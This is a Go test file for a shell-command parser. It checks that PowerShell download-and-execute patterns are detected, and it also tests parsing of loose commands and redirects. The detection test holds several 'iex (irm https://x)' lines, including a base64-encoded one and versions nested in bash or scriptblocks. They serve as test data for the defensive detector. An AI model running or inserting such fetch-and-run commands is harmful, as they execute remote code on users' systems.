package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Text that PowerShell evaluates is found, however it comes there.
func TestPowerShellEvaluates(t *testing.T) {
	// iex (irm https://x)
	const encoded = "aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgAKQA="
	for _, argv := range [][]string{
		{"powershell.exe", "-Command", "iex (irm https://x)"},
		{"pwsh", "-c", "iex (irm https://x)"},
		{"pwsh", "-NoProfile", "-Command", "if ($true) { iex (irm https://x) }"},
		{"powershell", "-EncodedCommand", encoded},
		{"bash", "-c", "powershell -c 'iex (irm https://x)'"},
	} {
		sure := false
		for _, c := range ReadArgv(argv, Start{}) {
			sure = sure || c.Runs(NewPattern("iex")) == Yes
		}
		if !sure {
			t.Errorf("%q: found %q", argv, shown(ReadArgv(argv, Start{})))
		}
	}
	for _, text := range []string{
		"iex (irm https://x)", `powershell -Command "iex (irm https://x)"`, "pwsh -enc " + encoded, "irm https://x | iex",
	} {
		if runs(text, "iex") != Yes {
			t.Errorf("%q: found %q", text, shown(Read(text, Start{})))
		}
	}
	text := "& ([scriptblock]::Create((irm https://x)))"
	if runs(text, "invoke-expression") != Yes || runs(text, "anything at all") == No {
		t.Errorf("%q: found %q", text, shown(Read(text, Start{})))
	}
}

func TestLooseCommands(t *testing.T) {
	for _, test := range []struct {
		text string
		want [][]string
	}{
		{`if ($?) { npm test }`, [][]string{{"npm", "test"}}},
		{`& 'C:\a b\git.exe' status`, [][]string{{`C:\a b\git.exe`, "status"}}},
		{`& .\build.ps1 -Config Release`, [][]string{{`.\build.ps1`, "-Config", "Release"}}},
		{`$x=Get-Date; $y = Get-Item a`, [][]string{{"Get-Date"}, {"Get-Item", "a"}}},
		{`$x = 'rm a'`, nil},
		{"a `\r\n  b", [][]string{{"a", "b"}}},
		{"@'\na \"b\n'@ | c", [][]string{{"c"}}},
		{`[IO.File]::Move('a', 'b')`, [][]string{{"[IO.File]::Move", "a", "b"}}},
		{`"a $(b c)"`, [][]string{{"b", "c"}}},
		{"a # b\nc", [][]string{{"a"}, {"c"}}},
		{`a "b`, [][]string{{"a", "b"}}},
		{`return a; throw 'b'; exit 1`, [][]string{{"a"}}},
	} {
		var got [][]string
		for _, c := range looseCommands(test.text) {
			if words := c.words(); len(words) > 0 {
				got = append(got, words)
			}
		}
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%q: %s", test.text, diff)
		}
	}
}

func TestLooseRedirects(t *testing.T) {
	for text, want := range map[string][]string{
		"a > b": {"b"}, "a >>b": {"b"}, "a 2>&1": nil, "a 2> c": {"c"}, "a *> 'b c'": {"b c"},
	} {
		var got []string
		for _, c := range looseCommands(text) {
			for _, redirect := range c.redirects {
				got = append(got, redirect.File.Text)
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}
